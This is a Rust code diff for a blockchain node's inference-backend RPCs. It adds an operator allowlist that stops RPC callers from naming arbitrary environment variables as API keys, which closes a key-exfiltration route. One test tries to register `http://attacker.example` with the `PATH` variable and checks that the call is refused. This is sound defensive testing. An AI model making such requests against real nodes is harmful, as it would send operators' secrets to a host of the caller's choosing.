@@ -4,7 +4,9 @@
 //! (persistent kind, key [`BACKENDS_KEY`]) where the off-chain worker reads them; never on chain.
 //!
 //! API keys are read from the environment variable the operator names and kept in the node's
-//! local database; `dgrid_listInferenceBackends` never returns them.
+//! local database; `dgrid_listInferenceBackends` never returns them. The RPCs may name only the
+//! variables the operator allowed with `--rpc-api-key-env`: a local RPC caller cannot send the
+//! node's other secrets to a URL of its choice.
 
 use std::sync::{Arc, Mutex};
 
@@ -17,6 +19,16 @@ use jsonrpsee::{
 	Extensions,
 };
 use sp_core::offchain::OffchainStorage;
+
+/// What the node starts with: `--inference-backend` values, and the key variables the RPCs
+/// may name (`--rpc-api-key-env`).
+#[derive(Clone, Debug, Default)]
+pub struct BackendOptions {
+	/// The `--inference-backend` values.
+	pub flags: Vec<String>,
+	/// The environment variables `dgrid_addInferenceBackend` may name as `apiKeyEnv`.
+	pub rpc_key_envs: Vec<String>,
+}
 
 /// Read the backend table (empty if none was stored).
 pub fn load<S: OffchainStorage>(storage: &S) -> Backends {
@@ -107,12 +119,14 @@ pub trait DgridBackendsApi {
 /// The backend RPCs over the node's offchain storage.
 pub struct DgridBackends<S> {
 	storage: Arc<Mutex<S>>,
+	allowed_key_envs: Vec<String>,
 }
 
 impl<S> DgridBackends<S> {
-	/// Serve the backend table in `storage`.
-	pub fn new(storage: S) -> Self {
-		Self { storage: Arc::new(Mutex::new(storage)) }
+	/// Serve the backend table in `storage`; `dgrid_addInferenceBackend` may name only the
+	/// `allowed_key_envs` as API key variables.
+	pub fn new(storage: S, allowed_key_envs: Vec<String>) -> Self {
+		Self { storage: Arc::new(Mutex::new(storage)), allowed_key_envs }
 	}
 }
 
@@ -132,6 +146,12 @@ impl<S: OffchainStorage + 'static> DgridBackendsApiServer for DgridBackends<S> {
 			spec.push_str(&format!(",model={name}"));
 		}
 		if let Some(var) = &view.api_key_env {
+			if !self.allowed_key_envs.contains(var) {
+				return Err(rpc_error(format!(
+					"apiKeyEnv {var} is not allowed: the node's operator allows a variable with \
+					 --rpc-api-key-env {var}"
+				)));
+			}
 			spec.push_str(&format!(",api-key-env={var}"));
 		}
 		let parsed = parse_spec(&spec).map_err(|e| rpc_error(format!("{e:?}")))?;
@@ -196,6 +216,50 @@ mod tests {
 		// Applying again keeps one entry per URL.
 		apply_cli(&mut storage, &specs).expect("applied");
 		assert_eq!(load(&storage).of(0).len(), 2);
+	}
+
+	fn allowed() -> Extensions {
+		let mut ext = Extensions::new();
+		ext.insert(sc_rpc_api::DenyUnsafe::No);
+		ext
+	}
+
+	fn view(url: &str, key_env: Option<&str>) -> BackendView {
+		BackendView {
+			model: 0,
+			url: url.into(),
+			model_name: None,
+			api_key_env: key_env.map(Into::into),
+			has_api_key: false,
+		}
+	}
+
+	/// Key exfiltration: a local RPC caller cannot name the node's other environment
+	/// variables (cloud credentials, say) as an API key sent to a URL of its choice; only the
+	/// variables the operator allowed, and no RPC returns a key.
+	#[test]
+	fn the_rpcs_name_only_allowed_key_variables_and_never_return_keys() {
+		std::env::set_var("DGRID_TEST_RPC_KEY", "sk-allowed");
+		let rpc = DgridBackends::new(
+			InMemOffchainStorage::default(),
+			vec!["DGRID_TEST_RPC_KEY".to_string()],
+		);
+		let refused = rpc
+			.add_backend(&allowed(), view("http://attacker.example", Some("PATH")))
+			.unwrap_err();
+		assert!(refused.message().contains("--rpc-api-key-env PATH"), "{refused:?}");
+		assert!(rpc.list_backends(&allowed()).unwrap().is_empty(), "nothing stored");
+		rpc.add_backend(&allowed(), view("http://127.0.0.1:8000", Some("DGRID_TEST_RPC_KEY")))
+			.expect("an allowed variable");
+		let listed = rpc.list_backends(&allowed()).unwrap();
+		assert_eq!(listed.len(), 1);
+		assert!(listed[0].has_api_key);
+		let json = serde_json::to_string(&listed).unwrap();
+		assert!(!json.contains("sk-allowed") && !json.contains("DGRID_TEST_RPC_KEY"), "{json}");
+		// Unsafe RPCs are refused when the server denies them.
+		let mut denied = Extensions::new();
+		denied.insert(sc_rpc_api::DenyUnsafe::Yes);
+		assert!(rpc.list_backends(&denied).is_err());
 	}
 
 	#[test]
